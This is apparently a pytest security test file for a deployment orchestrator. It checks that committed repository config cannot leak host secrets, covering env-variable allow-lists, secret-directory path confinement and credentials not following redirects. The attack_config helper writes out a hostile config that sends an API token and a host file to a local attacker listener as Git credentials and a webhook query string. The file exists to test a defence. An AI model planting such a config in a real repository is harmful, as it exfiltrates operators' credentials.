"""Repository content cannot exfiltrate host secrets (finding 3 of the review).

Before: ``${VAR}`` expanded any variable of the process and ``*File`` keys read any host
file, so a commit made the watcher send ``${CONVEYOR_API_TOKEN}`` and a host file as Basic auth
to a server of its choice, and a webhook notifier carry another secret. Now ``${VAR}`` reaches
only the operator's ``--env-allow`` names (never ``CONVEYOR_*``), ``*File`` keys only files
under ``--secrets-dir``, and a credential goes only to the host it was configured for: git
follows no redirect and offers credentials to no other host.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pygit2
import pytest

from orchestrator.adapters.embedded_nats import EmbeddedNats
from orchestrator.adapters.git_mirror import GitMirror
from orchestrator.adapters.nats_bus import EventBus
from orchestrator.domain import events as ev
from orchestrator.domain.config import parse_config
from orchestrator.domain.events import Event
from orchestrator.errors import ConveyorError, PermanentError
from orchestrator.secrets import SecretPolicy
from tests.security.listener import recording
from tests.security.pipeline import CONFIG, finished, good_files, next_good_commit_deploys, poll
from tests.support.conveyors import running, settings_for
from tests.support.repos import Repo
from tests.support.waits import wait_for_events

API_TOKEN = "api-token-must-never-leave"
HOST_SECRET = "host-file-must-never-leave"


def test_names_outside_the_allow_list_never_expand() -> None:
    environ = {"CONVEYOR_API_TOKEN": API_TOKEN, "OPS_URL": "https://ops", "HOME": "/root"}
    policy = SecretPolicy(env_allow=("OPS_*", "CONVEYOR_*"))
    scope = policy.scope(environ)
    assert scope.expand("${OPS_URL}/x") == "https://ops/x"
    with pytest.raises(ConveyorError, match="CONVEYOR_\\* variables are Conveyor's own"):
        scope.expand("${CONVEYOR_API_TOKEN}")  # even when a glob matches it
    with pytest.raises(ConveyorError, match="--env-allow"):
        scope.expand("${HOME}")
    assert dict(SecretPolicy().scope(environ).environ) == {}  # none by default


def test_files_only_under_the_secret_dirs(tmp_path: Path) -> None:
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "token").write_text("t")
    (tmp_path / "host").write_text(HOST_SECRET)
    (secrets / "link").symlink_to(tmp_path / "host")
    scope = SecretPolicy(secrets_dirs=(str(secrets),)).scope({})
    assert scope.read(str(secrets / "token"), "tokenFile") == "t"
    for path in (tmp_path / "host", secrets / "link", secrets / ".." / "host"):
        with pytest.raises(PermanentError, match="outside the operator's secret directories"):
            scope.read(str(path), "passwordFile")
    with pytest.raises(PermanentError, match="none is configured"):
        SecretPolicy().scope({}).read(str(secrets / "token"), "tokenFile")


async def test_a_bearer_token_does_not_follow_a_redirect_to_another_host(tmp_path: Path) -> None:
    async with recording("localhost") as other, recording("127.0.0.1") as configured:
        configured.redirect_to = other.url
        mirror = GitMirror(f"{configured.url}/repo.git", tmp_path / "cache", source="s",
                           credentials={"token": "${GIT_TOKEN}", "tokenAuth": "bearer"},
                           scope=SecretPolicy(env_allow=("GIT_TOKEN",)).scope(
                               {"GIT_TOKEN": "bearer-secret"}))
        with pytest.raises(ConveyorError):
            await mirror.fetch("main")
    assert configured.heard("bearer-secret")  # the host it was configured for
    assert other.seen == [] or not other.heard("bearer-secret")
    repo = pygit2.Repository(str(mirror.path))
    assert repo.config["http.followRedirects"] == "false"


def attack_config(url: str, host_file: Path) -> str:
    return CONFIG + f"""\
sources:
  token:
    url: {url}/token.git
    credentials:
      username: x
      password: ${{CONVEYOR_API_TOKEN}}
  file:
    url: {url}/file.git
    credentials:
      username: x
      passwordFile: {host_file}
notifiers:
  leak:
    type: webhook
    url: {url}/hook?t=${{CONVEYOR_API_TOKEN}}
    events: ["*"]
"""


def fetch_failed(events: list[Event], source: str) -> Event | None:
    return next((e for e in events if e.type == ev.SOURCE_FETCH_FAILED
                 and e.data.get("source") == source), None)


async def test_a_commit_cannot_send_host_secrets_anywhere(
        repo: Repo, nats_server: EmbeddedNats, bus: EventBus, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CONVEYOR_API_TOKEN", API_TOKEN)
    host_file = tmp_path / "host-secret"
    host_file.write_text(HOST_SECRET)
    first = repo.commit(good_files("v1"), "initial")
    settings = replace(settings_for(repo, nats_server, tmp_path / "data"),
                       secrets=SecretPolicy(env_allow=("*",)))  # even the widest glob
    async with recording() as attacker, running(settings) as conveyor:
        await wait_for_events(bus, finished(first, {"app"}))
        attack = repo.commit({"conveyor.yaml": attack_config(attacker.url, host_file),
                              "app/cm.yaml": good_files("v2")["app/cm.yaml"]},
                             "send me your secrets")
        await poll(conveyor)
        events = await wait_for_events(
            bus, lambda evs: bool(fetch_failed(evs, "token") and fetch_failed(evs, "file"))
            and finished(attack, {"app"})(evs)
            and any(e.type == ev.NOTIFY_FAILED and e.correlationid == attack for e in evs))
        token = fetch_failed(events, "token")
        assert token is not None and "CONVEYOR_* variables are Conveyor's own" in \
            token.data["error"]
        file = fetch_failed(events, "file")
        assert file is not None and "outside a secret directory" in file.data["error"]
        await next_good_commit_deploys(conveyor, bus, repo, config=CONFIG)
        everything = await wait_for_events(bus, lambda evs: True)
    assert not attacker.heard(API_TOKEN) and not attacker.heard(HOST_SECRET)
    log = "\n".join(e.to_json().decode() for e in everything)
    assert API_TOKEN not in log and HOST_SECRET not in log


def test_a_webhook_secret_reference_reaches_only_allowed_names() -> None:
    from services.api.routes_webhooks import hook_sources

    config = parse_config(CONFIG + "sources:\n  default:\n    webhook:\n"
                          "      secret: ${CONVEYOR_API_TOKEN}\n  own:\n"
                          "    url: https://git.example/own.git\n    webhook:\n"
                          "      secret: ${OWN_SECRET}\n")
    environ = {"CONVEYOR_API_TOKEN": API_TOKEN, "OWN_SECRET": "own"}
    scope = SecretPolicy(env_allow=("*",)).scope(environ)
    found = {s.name: s.secret for s in hook_sources(config, "/srv/r", "main", scope)}
    # the api token never becomes a webhook secret (anyone it leaked to could sign pushes)
    assert found == {"default": None, "own": "own"}
    assert API_TOKEN not in repr(hook_sources(config, "/srv/r", "main", scope))
